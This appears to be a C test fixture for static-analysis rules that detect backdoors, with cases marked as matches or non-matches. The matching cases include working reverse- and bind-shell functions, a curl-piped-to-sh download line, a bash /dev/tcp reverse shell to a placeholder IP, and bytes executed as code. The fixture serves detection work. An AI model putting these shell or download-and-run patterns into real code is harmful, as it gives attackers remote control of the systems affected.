#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int call_home(struct sockaddr *address, int size) {
    int line = socket(AF_INET, SOCK_STREAM, 0);
    connect(line, address, size);
    dup2(line, 0);
    dup2(line, 1);
    // ruleid: c.backdoor.shell-over-socket
    execve("/bin/sh", NULL, NULL);
    return 0;
}

void bound(int listener) {
    int client = accept(listener, NULL, NULL);
    for (int number = 0; number < 3; number++) dup2(client, number);
    // ruleid: c.backdoor.shell-over-socket
    execl("/bin/bash", "bash", "-i", NULL);
}

void job(int *ends) {
    dup2(ends[1], 1);
    // ok: c.backdoor.shell-over-socket
    execl("/bin/sh", "sh", "-c", "make", NULL);
}

void helper(struct sockaddr *address, int size) {
    int line = socket(AF_INET, SOCK_STREAM, 0);
    connect(line, address, size);
    dup2(line, 0);
    // ok: c.backdoor.shell-over-socket
    execl("/usr/lib/job/helper", "helper", NULL);
}

void update(void) {
    // ruleid: c.backdoor.download-and-run
    system("curl -s http://cdn.corp.example/x | sh");
    // ruleid: c.backdoor.download-and-run
    popen("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "r");
    // ok: c.backdoor.download-and-run
    system("curl -sO https://cdn.corp.example/data.csv");
    // ok: c.backdoor.download-and-run
    system("sync");
}

unsigned char bytes[] = "\x90\x90\xc3";

void go(void (*callback)(void), void *place) {
    // ruleid: c.backdoor.bytes-as-code
    ((void (*)())bytes)();
    // ruleid: c.backdoor.bytes-as-code
    (*(void (*)(void))bytes)();
    // ok: c.backdoor.bytes-as-code
    callback();
    // ok: c.backdoor.bytes-as-code
    void (*run)(void) = (void (*)(void))dlsym(place, "run");
}
